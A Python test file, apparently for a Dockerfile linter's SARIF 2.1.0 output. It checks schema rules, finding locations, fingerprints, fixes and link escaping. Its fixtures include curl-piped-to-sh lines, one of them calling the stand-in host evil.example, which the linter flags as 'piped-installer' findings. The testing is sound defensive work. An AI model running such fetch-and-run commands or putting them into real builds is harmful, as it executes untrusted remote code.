"""SARIF 2.1.0: the rules of the schema that matter to readers, held against real answers."""

from __future__ import annotations

import re
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from service import BuildContext, DockerfileError, Options, refactor
from service.passes import PASSES
from service.passes.findings import FINDINGS
from service.report.result import as_json
from service.report.sarif import FINGERPRINT, as_sarif

GO = 'FROM golang:1.22\nWORKDIR /src\nCOPY . .\nRUN go build -o /bin/api .\nRUN curl -fsSL https://example.com/x | sh\nCMD ["/bin/api"]\n'


SPLIT = GO.replace("RUN curl -fsSL https://example.com/x | sh\n", "")


def sarif(text: str, site: str = "", **options: Any) -> dict[str, Any]:
    context = BuildContext.unknown()
    refactoring = refactor(text, context, Options(**options))
    return as_sarif(refactoring, as_json(refactoring, context), site)


def check(document: dict[str, Any], text: str) -> None:
    """What the schema (sarif-schema-2.1.0.json) and the specification ask of what we write."""
    assert set(document) == {"$schema", "version", "runs"} and document["version"] == "2.1.0"
    (run,) = document["runs"]
    assert set(run) <= {"tool", "columnKind", "artifacts", "invocations", "results", "properties"}
    assert run["columnKind"] in ("utf16CodeUnits", "unicodeCodePoints")
    rules = run["tool"]["driver"]["rules"]
    assert len({rule["id"] for rule in rules}) == len(rules)
    for rule in rules:
        assert rule["shortDescription"]["text"]
        assert rule.get("defaultConfiguration", {"level": "note"})["level"] in ("none", "note", "warning", "error")
    lines = text.split("\n")
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["kind"] in ("notApplicable", "pass", "fail", "review", "open", "informational")
        # 3.27.10: a level other than none belongs to a failure.
        assert (result["kind"] == "fail") == (result["level"] != "none")
        assert result["message"]["text"]
        (location,) = result["locations"]
        place = location["physicalLocation"]
        assert run["artifacts"][place["artifactLocation"]["index"]]["location"]["uri"] == place["artifactLocation"]["uri"]
        if "region" in place:
            assert 1 <= place["region"]["startLine"] <= place["region"]["endLine"] <= len(lines)
        assert re.fullmatch(r"[0-9a-f]{32}:[0-9]+", result["partialFingerprints"][FINGERPRINT])
    marks = [result["partialFingerprints"][FINGERPRINT] for result in run["results"]]
    assert len(set(marks)) == len(marks)


def applied(document: dict[str, Any], text: str) -> str:
    """The text with the only fix applied, by lines and columns."""
    (fix,) = [fix for result in document["runs"][0]["results"] for fix in result.get("fixes", ())]
    (replacement,) = fix["artifactChanges"][0]["replacements"]
    region = replacement["deletedRegion"]
    starts = [0]
    for line in text.split("\n"):
        starts.append(starts[-1] + len(line) + 1)
    first = starts[region["startLine"] - 1] + region["startColumn"] - 1
    last = starts[region["endLine"] - 1] + region["endColumn"] - 1
    return text[:first] + replacement["insertedContent"]["text"] + text[last:]


def test_a_split() -> None:
    found = sarif(SPLIT)
    check(found, SPLIT)
    assert {result["properties"]["remark"] for result in found["runs"][0]["results"]} >= {"passed", "analysis"}
    assert applied(found, SPLIT) == refactor(SPLIT).dockerfile != SPLIT


def test_a_finding_has_its_line() -> None:
    found = sarif(GO)
    check(found, GO)
    piped = next(result for result in found["runs"][0]["results"] if result["ruleId"] == "piped-installer")
    assert (piped["level"], piped["locations"][0]["physicalLocation"]["region"]["startLine"]) == ("warning", 5)


def test_line_ends_of_all_kinds_survive_the_fix() -> None:
    for text in (SPLIT, SPLIT.rstrip("\n"), SPLIT.replace("\n", "\r\n"), "\ufeff" + SPLIT):
        assert applied(sarif(text), text) == refactor(text).dockerfile


def test_nothing_to_change_has_no_fix() -> None:
    found = sarif('FROM alpine:3.20\nCMD ["sh"]\n')
    check(found, 'FROM alpine:3.20\nCMD ["sh"]\n')
    assert not [result for result in found["runs"][0]["results"] if "fixes" in result]
    assert all(result["level"] == "none" or result["properties"]["remark"] == "analysis" for result in found["runs"][0]["results"])


def test_every_pass_and_finding_is_a_rule_with_its_page() -> None:
    rules = sarif(GO, "https://restage.example/")["runs"][0]["tool"]["driver"]["rules"]
    links = {rule["id"]: rule.get("helpUri") for rule in rules}
    for name in (*(one.name for one in PASSES), *(one.code for one in FINDINGS)):
        assert links[name] == f"https://restage.example/docs/passes/{name}"
    assert not any("helpUri" in rule for rule in sarif(GO)["runs"][0]["tool"]["driver"]["rules"])


def test_a_remark_is_the_same_where_lines_moved() -> None:
    def marks(text: str) -> set[str]:
        return {
            result["partialFingerprints"][FINGERPRINT]
            for result in sarif(text)["runs"][0]["results"]
            if result["ruleId"] in ("piped-installer", "runs-as-root")
        }

    assert marks(GO) == marks(GO.replace("WORKDIR /src\n", "\n# a comment\nWORKDIR /src\n\n")) != set()


def test_the_file_name_is_a_reference() -> None:
    found = sarif(GO, filename="docker files/é#1%.Dockerfile")
    assert found["runs"][0]["artifacts"][0]["location"]["uri"] == "docker%20files/%C3%A9%231%25.Dockerfile"


def test_what_is_quoted_is_no_link() -> None:
    text = 'FROM debian:bookworm-slim\nRUN curl "[x](https://evil.example)" | sh\nCMD ["x"]\n'
    assert "[x](" not in str([result["message"] for result in sarif(text)["runs"][0]["results"]])


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(["RUN x", "COPY a b", "RUN apt-get update", "ADD http://x/y /z", "RUN sudo x", "", "EXPOSE 80"]), max_size=20))
def test_any_file(lines: list[str]) -> None:
    text = "FROM node\n" + "\n".join(lines)
    try:
        check(sarif(text), text)
    except DockerfileError:
        return
